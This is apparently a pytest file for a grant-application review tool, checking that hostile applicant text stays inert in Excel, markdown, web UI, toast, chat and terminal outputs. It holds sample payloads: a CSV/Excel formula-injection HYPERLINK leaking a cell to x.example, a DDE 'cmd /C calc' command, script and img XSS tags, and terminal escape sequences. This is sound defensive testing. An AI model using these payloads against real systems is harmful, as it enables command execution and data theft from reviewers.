"""Hostile applicant text through every output a reviewer opens: no live formula, no live tag.

The names come in a real .docx (written by our exporter, read back by the reviewer's reader) and
go out through ``review --format xlsx|md``, ``summary``, the web review's 审查结果.xlsx and 审查报告.md,
the “放入申报书” toast and the chat."""

from __future__ import annotations

import os
import re
from pathlib import Path

import gradio as gr
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from assistant.cli import app as cli
from assistant.models import Application
from assistant.paths import SAMPLES_DIR
from assistant.safe_text import escape_html, excel_cell, inert_markdown, is_formula_like

HYPERLINK = '=HYPERLINK("http://x.example/?"&A2,"点此查看")'
DDE = "=cmd|' /C calc'!A0"
IMG = "<img src=http://127.0.0.1:9/x>"
SCRIPT = "<script>alert(1)</script>"
HOSTILE = (HYPERLINK, DDE, IMG, SCRIPT, "+1+1", "@SUM(A1)", "-2+3", "\t=1+1")
LIVE_TAG = re.compile(r"<\s*(img|script|iframe|a|svg)\b", re.I)


def hostile_application() -> Application:
    app = Application.model_validate_json((SAMPLES_DIR / "sample-application.json").read_text("utf-8"))
    app.applicant = HYPERLINK
    app.enterprise.name = HYPERLINK
    app.project_name = DDE
    app.enterprise.contact = "@SUM(A1)"
    app.enterprise.contact_mobile = "+1+1"
    app.scenes[0].instance = IMG
    app.scenes[1].instance = SCRIPT
    app.scenes[2].raw_title = DDE
    return app


@pytest.fixture(scope="module")
def hostile_docx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from assistant.docx_io.writer import export_docx

    return export_docx(hostile_application(), tmp_path_factory.mktemp("hostile") / "恶意申报书.docx")


def live_formulas(path: Path) -> list[str]:
    """Cells Excel would evaluate: a formula type, or formula-looking text without the quote prefix."""
    wb = load_workbook(path)
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (is_formula_like(cell.value) and not cell.quotePrefix):
                    found.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return found


def all_text(path: Path) -> str:
    wb = load_workbook(path)
    return "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value)


def test_excel_cells_keep_the_text_but_never_evaluate_it(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from assistant.safe_text import inert_workbook

    wb = Workbook()
    wb.active.append([*HOSTILE, "OEE 提升 17%", 3])
    assert wb.active["A1"].data_type == "f"  # what openpyxl does unprotected: the attack is real
    assert inert_workbook(wb) == sum(map(is_formula_like, HOSTILE)) == 6
    wb.save(tmp_path / "t.xlsx")
    assert live_formulas(tmp_path / "t.xlsx") == []
    back = [c.value for c in load_workbook(tmp_path / "t.xlsx").active[1]]
    assert back == [*HOSTILE, "OEE 提升 17%", 3]  # nothing altered: a 汇总表 read back stays the same
    assert not excel_cell(load_workbook(tmp_path / "t.xlsx").active["I1"])  # ordinary text untouched


def test_markdown_and_html_escapes() -> None:
    for text in (IMG, SCRIPT, "![x](http://evil.example/p.png)"):
        shown = inert_markdown(text)
        assert not LIVE_TAG.search(shown) and "](" not in shown
    assert escape_html('<b title="x">') == "&lt;b title=&quot;x&quot;&gt;"


def test_cli_review_and_summary_outputs_carry_no_live_formula_or_tag(hostile_docx: Path, tmp_path: Path):
    runner = CliRunner()
    xlsx, md, summary = tmp_path / "审查.xlsx", tmp_path / "审查.md", tmp_path / "汇总.xlsx"
    runner.invoke(cli, ["review", str(hostile_docx), "--format", "xlsx", "--out", str(xlsx)])
    runner.invoke(cli, ["review", str(hostile_docx), "--format", "md", "--out", str(md)])
    result = runner.invoke(cli, ["summary", str(hostile_docx), "--out", str(summary)])
    assert summary.exists(), result.output
    for book in (xlsx, summary):
        assert live_formulas(book) == [], book
        text = all_text(book)
        assert HYPERLINK in text and DDE in text  # the reviewer still sees what was written
    report = md.read_text("utf-8")
    assert "HYPERLINK" in report and not LIVE_TAG.search(report), report[:2000]
    assert "&lt;img" in report and "&lt;script&gt;" in report


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory):
    from test_app import running_app

    os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"
    with running_app(tmp_path_factory.mktemp("web") / "data") as client:
        yield client


def test_web_review_downloads_are_inert(web, hostile_docx: Path) -> None:
    from gradio_client import handle_file

    summary, *_, downloads = web.predict([handle_file(str(hostile_docx))], api_name="/review")
    assert HYPERLINK in summary["data"][0]  # the table shows the text as written (cells are plain text)
    assert all(live_formulas(Path(f)) == [] for f in downloads if f.endswith(".xlsx"))  # 汇总表 too
    xlsx = next(Path(f) for f in downloads if f.endswith("审查结果.xlsx"))
    md = next(Path(f) for f in downloads if f.endswith(".md"))
    assert live_formulas(xlsx) == [] and HYPERLINK in all_text(xlsx)
    assert not LIVE_TAG.search(md.read_text("utf-8"))


def _handler(demo: gr.Blocks, api_name: str):
    return next(f.fn for f in demo.fns.values() if f.api_name == api_name)


def test_toast_and_chat_show_titles_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from app import build_app
    from assistant.config import Settings
    from assistant.projects import ChatMessage, ProjectStore

    settings = Settings(data_dir=tmp_path / "data")
    store = ProjectStore(settings.data_dir)
    project = store.create("恶意")
    app = hostile_application()
    project.draft = app.scenes[0]
    project.chat = [ChatMessage(role="user", content=f"材料：{IMG}{SCRIPT}")]
    store.save(project)
    toasts: list[str] = []
    monkeypatch.setattr(gr, "Info", lambda message, *a, **k: toasts.append(message))

    class Request:
        username = None

    demo = build_app(settings)
    _handler(demo, "add_scene")(project.id, Request())
    assert toasts and "&lt;img" in toasts[0] and not LIVE_TAG.search(toasts[0])
    shown = _handler(demo, "select_project")(project.id, Request())
    chat = next(v for k, v in shown.items() if isinstance(k, gr.Chatbot))  # the writer tab's chat
    assert chat and not any(LIVE_TAG.search(m["content"]) for m in chat)


def test_the_pre_export_list_and_section_proposals_show_titles_as_text() -> None:
    from assistant.webapp.sections import check_markdown, proposal_markdown, questions_markdown

    app = hostile_application()
    app.scenes[0].parts.成效 = ""  # an issue that names the scene by its (hostile) title
    shown = check_markdown(app)
    assert "场景1「" in shown and not LIVE_TAG.search(shown)
    for text in (
        proposal_markdown(f"第一行{IMG}\n第二行{SCRIPT}", "总体情况"),
        questions_markdown([IMG, SCRIPT]),
    ):
        assert text and not LIVE_TAG.search(text)


def test_terminal_text_carries_no_markup_or_escape_sequences() -> None:
    import io

    from rich.console import Console

    from assistant.safe_text import terminal_text

    hostile = "[link=http://evil.example]点此[/link]\x1b]0;pwned\x07\x1b[2J[bold]粗[/bold]"
    buffer = io.StringIO()
    Console(file=buffer, force_terminal=True, width=200, highlight=False).print(
        f"[red]{terminal_text(hostile)}[/]"
    )
    shown = buffer.getvalue()
    assert "\x1b]" not in shown and "\x1b[2J" not in shown  # no OSC (titles, hyperlinks), no screen wipe
    assert "[link=http://evil.example]点此[/link]" in shown and "[bold]粗[/bold]" in shown  # as text
